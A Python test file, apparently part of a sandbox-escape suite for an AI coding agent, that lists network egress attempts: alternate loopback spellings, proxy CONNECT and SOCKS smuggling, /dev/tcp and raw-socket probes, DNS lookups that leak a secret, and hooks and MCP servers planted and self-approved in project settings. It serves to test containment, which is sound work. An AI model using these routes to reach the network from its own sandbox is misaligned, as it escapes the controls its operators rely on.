"""The network: every way to something that is neither llama-server nor the management API. Evidence: the listener heard
it."""

from __future__ import annotations

import json

from tests.escape.attempt import ROOT, Plan, attempt, bash
from tests.escape.lab import OPEN_PORT, PYTHON, Lab
from tests.escape.world import HOST_ADDRESS

LOOPBACK = "other loopback ports"
OTHERS = "other addresses"
NAMES = "DNS"
PROGRAMS = "the network, through hooks and MCP servers"


def heard(lab: Lab, words: str, command: str) -> Plan:
    # The allowed port may hear it; no other must.
    return Plan([bash(command)], lambda: lab.listeners.find(words, but=OPEN_PORT))


@attempt("loopback-curl", LOOPBACK, "curl another loopback port")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    url = f"http://127.0.0.1:{lab.ports['loopback']}/{words}"
    return heard(lab, words, f"curl -s -m 3 {url}; curl -s -m 3 --noproxy '*' {url}")


@attempt("loopback-raw", LOOPBACK, "A plain TCP connection to another loopback port")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    port = lab.ports["loopback"]
    probe = lab.probe("tcp", "127.0.0.1", port, words)
    return heard(lab, words, f"(echo {words} >/dev/tcp/127.0.0.1/{port}) 2>&1; {probe}")


@attempt(
    "loopback-spellings", LOOPBACK, "Other spellings of this machine: 0.0.0.0, 127.1, decimal, IPv4 in IPv6, a name"
)
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    port = lab.ports["loopback"]
    hosts = (
        "0.0.0.0",
        "127.1",
        "2130706433",
        "127.0.0.2",
        "[::ffff:127.0.0.1]",
        "localhost.",
        "localhost",
        "LOCALHOST",
    )
    urls = " ".join(f"'http://{host}:{port}/{words}'" for host in hosts)
    return heard(lab, words, f"for u in {urls}; do curl -s -g -m 2 $u; done")


@attempt("loopback-ipv6", LOOPBACK, "The same over IPv6")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    url = f"http://[::1]:{lab.ports['loopback6']}/{words}"
    return heard(lab, words, f"curl -s -g -m 3 '{url}'; curl -s -g -m 3 --noproxy '*' '{url}'")


@attempt("redirect", LOOPBACK, "Follow a redirect from an allowed port to another")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    to = f"127.0.0.1:{lab.ports['loopback']}/{words}"
    url = f"http://127.0.0.1:{lab.ports['open']}/redirect/{to}"
    return heard(lab, words, f"curl -s -L -m 3 {url}")


@attempt("proxy-connect", LOOPBACK, "Use the sandbox's own proxy for CONNECT and SOCKS to another port")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    url = f"http://127.0.0.1:{lab.ports['loopback']}/{words}"
    command = (
        'for p in "$HTTP_PROXY" "$ALL_PROXY" http://127.0.0.1:3128 socks5h://127.0.0.1:1080; do'
        f' curl -s -m 2 -p -x "$p" --noproxy "" {url}; curl -s -m 2 -x "$p" --noproxy "" {url}; done; '
        f"curl -s -m 2 {url}"
    )
    return heard(lab, words, command)


@attempt("relay-smuggle", LOOPBACK, "Ask an allowed port for another one: absolute URI, Host, CONNECT")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    port, to = lab.ports["open"], f"127.0.0.1:{lab.ports['loopback']}"
    command = (
        f"curl -s -m 2 --noproxy '*' --connect-to {to}:127.0.0.1:{port} http://{to}/x;"
        f" curl -s -m 2 --noproxy '' -x http://127.0.0.1:{port} http://{to}/{words};"
        f" curl -s -m 2 --noproxy '' -p -x http://127.0.0.1:{port} http://{to}/{words}"
    )
    return heard(lab, words, f"{command}; curl -s -m 2 --noproxy '*' http://{to}/{words}")


@attempt("other-address", OTHERS, "curl an address of the machine that is not loopback")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    url = f"http://{HOST_ADDRESS}:{lab.ports['host']}/{words}"
    return heard(lab, words, f"curl -s -m 3 {url}; curl -s -m 3 --noproxy '*' {url}")


@attempt("other-address-raw", OTHERS, "A plain TCP connection to it")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    return heard(lab, words, lab.probe("tcp", HOST_ADDRESS, lab.ports["host"], words))


@attempt("udp", OTHERS, "Send a UDP datagram")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    return heard(lab, words, lab.probe("udp", HOST_ADDRESS, lab.ports["udp"], words))


@attempt("raw-socket", OTHERS, "Send a datagram from a raw socket", accounts=(ROOT,))
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    return heard(lab, words, lab.probe("raw", HOST_ADDRESS, lab.ports["udp"], words))


@attempt("dns", NAMES, "Look up a name, which tells the name server a secret")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    return heard(lab, words, f"timeout 10 getent hosts {words}.example.org")


@attempt("dns-proxy", NAMES, "Let the sandbox's proxy look up a name")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    command = f"curl -s -m 3 http://{words}.example.org/; curl -s -m 3 -p http://{words}.example.org:8081/"
    return heard(lab, words, command)


@attempt(
    "hook-network",
    PROGRAMS,
    "A hook of the project's settings that connects to another loopback port",
    session="project",
)
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    command = lab.probe("tcp", "127.0.0.1", lab.ports["loopback"], words)
    lab.project_settings(hooks={"PostToolUse": [{"matcher": "*", "hooks": [{"type": "command", "command": command}]}]})
    return Plan([bash("echo hello")], lambda: lab.listeners.find(words))


@attempt("server-models", PROGRAMS, "A hook that has llama-server download a model", session="project")
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    command = (
        "curl -s -m 3 --noproxy '*' -H \"Authorization: Bearer $ANTHROPIC_AUTH_TOKEN\" "
        f'-d \'{{"model": "{words}"}}\' "$ANTHROPIC_BASE_URL/models"'
    )
    hooks = lab.settings.get(str(lab.workspace), {}).get("hooks", {}).get("PostToolUse", [])
    group = {"matcher": "*", "hooks": [{"type": "command", "command": command}]}
    lab.project_settings(hooks={"PostToolUse": [*hooks, group]})
    return Plan([bash("echo hello")], lambda: lab.asked_server("POST", "/models", words))


@attempt(
    "mcp-network", PROGRAMS, "An MCP server of the project's that connects to another loopback port", session="project"
)
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    arguments = [str(lab.workspace / "probes.py"), "tcp", "127.0.0.1", str(lab.ports["loopback"]), words]
    mcp_server(lab, "network", {"command": PYTHON, "args": arguments})
    return Plan([bash("sleep 0.3")], lambda: lab.listeners.find(words))


@attempt(
    "mcp-http", PROGRAMS, "An MCP server of the project's that is reached at another loopback port", session="project"
)
def _(lab: Lab) -> Plan:
    words = lab.nonce()
    mcp_server(lab, "http", {"type": "http", "url": f"http://127.0.0.1:{lab.ports['loopback']}/{words}"})
    return Plan([bash("sleep 0.3")], lambda: lab.listeners.find(words))


def mcp_server(lab: Lab, name: str, server: dict[str, object]) -> None:
    """Add a server to the project's .mcp.json, and approve it in the project's own settings."""
    path = lab.workspace / ".mcp.json"
    known = json.loads(path.read_text())["mcpServers"] if path.exists() else {}
    lab.plant(path, json.dumps({"mcpServers": {**known, name: server}}))
    lab.project_settings(enableAllProjectMcpServers=True)
    lab.plant(
        lab.workspace / ".claude" / "settings.local.json",
        json.dumps({"enableAllProjectMcpServers": True, "enabledMcpjsonServers": [*known, name]}),
    )
